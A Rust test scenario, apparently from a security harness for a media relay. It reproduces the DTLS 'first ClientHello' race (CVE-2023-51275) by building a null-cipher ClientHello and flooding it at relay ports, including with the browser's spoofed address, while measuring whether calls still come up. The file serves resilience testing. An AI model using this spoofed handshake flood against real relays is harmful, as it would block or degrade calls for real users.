//! The race of the first ClientHello (CVE-2023-51275 and its kin): a hello that offers nothing usable comes before the
//! browser's own, and the call must come up all the same.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use peers::random;
use peers::scenario::Scenario;

use crate::attack::{Outcome, Scene};
use crate::field::{ATTACKER, BROWSER};
use crate::flood::{Hand, Sent};
use crate::witness::Call;

/// Calls that are set up under the spray, and before it.
const CALLS: usize = 200;
const CLEAN: usize = 50;
/// Hellos a second, from each of the attacker's hands.
const RATE: u64 = 1000;
/// Witnesses have the numbers below.
const FIRST: usize = 10;

/// Bad hellos from an address of the attacker's, at the ports of browsers.
pub(super) fn strangers(scene: &mut Scene<'_>) -> Result<Outcome, String> {
    race(scene, ATTACKER)
}

/// The same in the name of the very browser that is about to shake hands.
pub(super) fn in_the_browsers_name(scene: &mut Scene<'_>) -> Result<Outcome, String> {
    race(scene, BROWSER)
}

fn race(scene: &mut Scene<'_>, from: Ipv4Addr) -> Result<Outcome, String> {
    let target = scene
        .witness
        .calls()
        .iter()
        .find(|call| call.browser().browser.is_some())
        .map(|call| call.browser().relay());
    let target = target.ok_or("no witness has DTLS")?;
    let mut clean = Vec::new();
    for number in 0..CLEAN {
        clean.push(set_up(scene, number)?);
    }
    let hello = null_cipher_hello();
    let (mut times, mut failures, mut sent) = (Vec::new(), Vec::new(), Sent::default());
    for number in 0..CALLS {
        // Where ports are shared it is the witness's; else those of the next calls are sprayed as well.
        let mut hand = Hand::new(&scene.field.alley, Call::port(FIRST + number))?;
        let over = AtomicBool::new(false);
        let (outcome, sprayed) = std::thread::scope(|scope| {
            let spray = scope.spawn(|| {
                hand.flood(
                    RATE,
                    |_| !over.load(Ordering::Relaxed),
                    |_, room| {
                        room[..hello.len()].copy_from_slice(&hello);
                        (hello.len(), from, target)
                    },
                )
            });
            let outcome = set_up(scene, number);
            over.store(true, Ordering::Relaxed);
            (outcome, spray.join().unwrap_or_default())
        });
        sent = sent.and(sprayed);
        match outcome {
            Ok(time) => times.push(time),
            Err(why) => failures.push(why),
        }
    }
    let note = format!(
        "{} of {CALLS} set up, in {} ms (p50), {} ms (p99); clean {}, {} ms",
        times.len(),
        percentile(&mut times, 50),
        percentile(&mut times, 99),
        percentile(&mut clean, 50),
        percentile(&mut clean, 99)
    );
    let bite = failures
        .first()
        .map(|why| format!("{} calls did not come up: {why}", failures.len()));
    Ok(Outcome::of(sent).biting(bite).saying(note))
}

/// How long a call took until it had its keys.
fn set_up(scene: &mut Scene<'_>, number: usize) -> Result<Duration, String> {
    let began = Instant::now();
    let kind = Scenario::AvpDtlsActive;
    let call = Call::set_up(scene.field, scene.ng, scene.identity, kind, FIRST + number)?;
    let took = began.elapsed();
    _ = scene.ng.ask(&peers::scenario::delete(&call.name), || {});
    Ok(took)
}

fn percentile(times: &mut [Duration], percent: usize) -> u128 {
    times.sort_unstable();
    let at = (times.len() * percent / 100).min(times.len().saturating_sub(1));
    times.get(at).map_or(0, Duration::as_millis)
}

/// DTLS 1.2 with TLS_NULL_WITH_NULL_NULL alone, as the advisory has it.
fn null_cipher_hello() -> Vec<u8> {
    let mut body = vec![0xfe, 0xfd];
    body.extend(random::bytes::<32>());
    // No session, no cookie, one suite, no compression.
    body.extend([0, 0, 0, 2, 0, 0, 1, 0]);
    let len = (body.len() as u16).to_be_bytes();
    // ClientHello, its length, message 0, one fragment.
    let mut message = vec![1, 0, len[0], len[1], 0, 0, 0, 0, 0, 0, len[0], len[1]];
    message.extend(body);
    let len = (message.len() as u16).to_be_bytes();
    // Handshake, DTLS 1.2, epoch 0, record 0.
    let mut record = vec![22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, len[0], len[1]];
    record.extend(message);
    record
}
